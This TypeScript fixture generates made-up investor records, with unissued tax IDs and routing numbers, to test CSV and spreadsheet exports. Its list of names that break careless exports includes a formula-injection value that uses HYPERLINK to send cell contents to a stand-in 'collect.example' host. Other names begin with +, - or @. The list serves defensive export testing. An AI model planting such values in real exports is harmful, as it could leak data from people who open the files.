// Made-up investors. They are the same every time, look real, and have values that exports often get wrong. Their Tax IDs
// and bank routing numbers are from ranges that are never issued, so they belong to no one.
import type { InvestorRow } from '../src/investors/import/investor-row.ts'
import { chance, createRandom, pick, type Random } from './demo-random.ts'

/** An investor. `ageDays`: how many days ago it was added. */
export type DemoInvestor = InvestorRow & { ageDays: number }

const oldestDays = 730

const firstNames =
  'Ana Björn Chloé Daniel Elif François Grace Håkon Inês José Katarzyna Liam Mei Noor Olivia Priya Quentin Renée Søren Thandiwe Uma Víctor Wren Ximena Yusuf Zoë'.split(
    ' ',
  )
const lastNames =
  "Abernathy Bjørnstad Castellanos D'Angelo Eze Fernández Gjelsvik Haddad Ivanova Jørgensen Kowalczyk Łukaszewicz Müller Nguyễn O'Sullivan Peña Quiñones Rasmussen Šimůnek Takahashi Uçar van-der-Berg Weiß Xu Yılmaz Zhang".split(
    ' ',
  )
const companies =
  'Alder Bluestem Cobalt Driftwood Ember Foxglove Granite Halcyon Juniper Kestrel Larkspur Meridian'.split(
    ' ',
  )
const trades = ['Capital', 'Holdings', 'Partners', 'Realty', 'Ventures']
const forms = ['LLC', 'LP', 'Inc.', 'GmbH & Co. KG', 'S.à r.l.']
const streets = ['Alder Way', 'Canal Street', 'Harbor Road', 'Mill Lane', 'Quarry Hill', 'Sycamore Avenue']
const cities = [
  'Portland, OR 97205',
  'Boise, ID 83702',
  'Duluth, MN 55802',
  'Savannah, GA 31401',
  'Boston, MA 02108',
]
const banks = [
  'First Lantern Bank',
  'Cobalt Savings & Trust',
  'Bank of the Seven Bridges',
  'Crédit Meridian, N.A.',
]

/** Names that break a careless export. Each account begins with them. */
const notableNames = [
  '=HYPERLINK("https://collect.example/?q="&A1,"Open statement")',
  '+1 Ventures LLC',
  '-Minus Forty Partners LP',
  '@Home Realty Trust',
  'Robert "Bob" Castellanos, Jr.',
  'Smith, Jones & "Partners", LLC',
  'Zoë Åström-Nuñez',
  'Nguyễn Thị Ánh',
  'משפחת לוי Family Trust',
  '山田 太郎',
  'Cafe\u0301 Holdings; Inc.',
  "O'Brien \\ Sons\tLP",
]

/** @param prefix the beginning of the external ids. */
export function* makeDemoInvestors(seed: number, prefix: string, count: number): Generator<DemoInvestor> {
  const random = createRandom(seed)
  for (let n = 1; n <= count; n += 1) yield makeInvestor(random, prefix, n)
}

function makeInvestor(random: Random, prefix: string, n: number): DemoInvestor {
  const profileType = pickProfileType(random)
  const name = makeName(random, profileType)
  return {
    externalId: chance(random, 0.9) ? `${prefix}-${String(n).padStart(5, '0')}` : null,
    name: notableNames[n - 1] ?? name,
    email: chance(random, 0.94) ? `${slug(name)}.${n}@mail.example` : null,
    profileType,
    address: chance(random, 0.97) ? makeAddress(random) : null,
    taxId: chance(random, 0.94) ? makeTaxId(random, profileType) : null,
    ...(chance(random, 0.9) ? makeBankDetails(random) : noBankDetails),
    ageDays: random() * oldestDays,
  }
}

function makeName(random: Random, profileType: InvestorRow['profileType']): string {
  const first = pick(random, firstNames)
  const last = pick(random, lastNames)
  const names = {
    INDIVIDUAL: `${first} ${last}`,
    JOINT: `${first} & ${pick(random, firstNames)} ${last}`,
    TRUST: `The ${last} Family Trust`,
    ENTITY: `${pick(random, companies)} ${pick(random, trades)}, ${pick(random, forms)}`,
    IRA: `Halyard Trust Co. FBO ${first} ${last} IRA`,
  }
  return names[profileType]
}

const slug = (name: string) =>
  name
    .normalize('NFD')
    .toLowerCase()
    .replace(/[^a-z0-9 ]/g, '')
    .trim()
    .replace(/ +/g, '.')

function makeAddress(random: Random): string {
  const street = `${1 + Math.floor(random() * 980)} ${pick(random, streets)}`
  const unit = chance(random, 0.3) ? [`Suite ${1 + Math.floor(random() * 40)}, "North"`] : []
  return [street, ...unit, pick(random, cities)].join('\n')
}

/** Social Security numbers never begin with 000 or 666. Employers never get the prefixes below. */
function makeTaxId(random: Random, profileType: InvestorRow['profileType']): string {
  const company = profileType === 'TRUST' || profileType === 'ENTITY'
  const id = company
    ? `${pick(random, ['00', '07', '08', '09', '17', '49', '69', '78', '89', '96'])}-${digits(random, 7)}`
    : `${pick(random, ['000', '666'])}-${digits(random, 2)}-${digits(random, 4)}`
  return chance(random, 0.2) ? id.replaceAll('-', '') : id
}

function makeBankDetails(random: Random) {
  return {
    bankName: pick(random, banks),
    bankAccountType: pick(random, ['CHECKING', 'CHECKING', 'SAVINGS'] as const),
    bankRoutingNumber: makeRoutingNumber(random),
    bankAccountNumber: digits(random, 8 + Math.floor(random() * 5)),
  }
}

const noBankDetails = {
  bankName: null,
  bankAccountType: null,
  bankRoutingNumber: null,
  bankAccountNumber: null,
}

/** No routing number begins with 0000 or with 13 to 20. The ninth digit is the ABA's checksum of the others. */
function makeRoutingNumber(random: Random): string {
  const start = pick(random, ['0000', '1300', '1400', '1900']) + digits(random, 4)
  const sum = Array.from(start, (digit, i) => Number(digit) * ([3, 7, 1][i % 3] ?? 0)).reduce(
    (a, b) => a + b,
    0,
  )
  return `${start}${(10 - (sum % 10)) % 10}`
}

function pickProfileType(random: Random): InvestorRow['profileType'] {
  return pick(random, [
    'INDIVIDUAL',
    'INDIVIDUAL',
    'INDIVIDUAL',
    'JOINT',
    'TRUST',
    'ENTITY',
    'ENTITY',
    'IRA',
  ] as const)
}

const digits = (random: Random, count: number) =>
  Array.from({ length: count }, () => Math.floor(random() * 10)).join('')
